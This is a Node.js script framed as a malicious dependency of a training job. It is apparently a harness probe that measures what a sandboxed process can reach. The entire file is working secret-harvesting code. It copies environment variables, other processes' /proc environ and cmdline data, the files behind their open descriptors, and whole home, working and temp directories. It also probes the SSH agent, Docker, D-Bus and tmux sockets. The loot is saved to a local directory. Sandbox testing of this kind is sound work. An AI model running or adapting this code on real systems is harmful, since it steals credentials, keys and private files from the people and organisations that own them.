// A dependency of a training script that has gone bad: it takes along everything that it can read where it runs.
import {
  appendFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
} from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';

const loot = process.env.HUNT_LOOT;
mkdirSync(loot, { recursive: true });
const take = (what, bytes) => {
  const name = `${process.env.HUNT_STAGE ?? process.argv[2] ?? 'job'}.${process.pid}`;
  appendFileSync(join(loot, name), Buffer.concat([Buffer.from(`\n== ${what}\n`), Buffer.from(bytes)]));
};
const read = (path) => {
  try {
    return readFileSync(path);
  } catch {
    return Buffer.alloc(0);
  }
};

take('own environment', JSON.stringify(process.env));
take('own arguments', process.argv.join(' '));
// A box is a machine of its own: here that is every process that carries its mark, and whatever stands above this one in it.
const marker = process.env.HUNT_BOX_MARK ?? `HOME=${process.env.HOME}\0`;
const ours = (pid) => marker && read(`/proc/${pid}/environ`).includes(marker);
for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  if (!ours(pid)) continue;
  for (const file of ['environ', 'cmdline']) take(`/proc/${pid}/${file}`, read(`/proc/${pid}/${file}`));
  try {
    for (const fd of readdirSync(`/proc/${pid}/fd`)) {
      const target = readlinkSync(`/proc/${pid}/fd/${fd}`);
      take(`/proc/${pid}/fd/${fd}`, target);
      if (
        target.startsWith('/') &&
        existsSync(target) &&
        lstatSync(target).isFile() &&
        !target.startsWith(loot)
      )
        take(`behind ${target}`, read(target));
    }
  } catch {}
}
const walk = (dir, depth = 0) => {
  let names = [];
  try {
    names = readdirSync(dir, { withFileTypes: true });
  } catch {}
  for (const entry of names) {
    const path = join(dir, entry.name);
    if (path.startsWith(loot) || entry.name === 'node_modules') continue;
    if (entry.isDirectory() && depth < 9) walk(path, depth + 1);
    if (entry.isFile() && lstatSync(path).size < 5e6) take(path, read(path));
  }
};
for (const dir of [process.env.HOME, process.cwd(), process.env.GPU_LEASE_OUT, process.env.TMPDIR])
  if (dir) walk(dir);
for (const name of ['SSH_AUTH_SOCK', 'DOCKER_HOST', 'DBUS_SESSION_BUS_ADDRESS', 'TMUX']) {
  const at = process.env[name];
  if (!at) continue;
  take(`socket ${name}`, at);
  await new Promise((done) => {
    const socket = connect(at)
      .on('error', done)
      .on('connect', () => socket.write(Buffer.from([0, 0, 0, 1, 11])));
    socket.on('data', (data) => take(`answer of ${name}`, data)).setTimeout(500, done);
  });
}
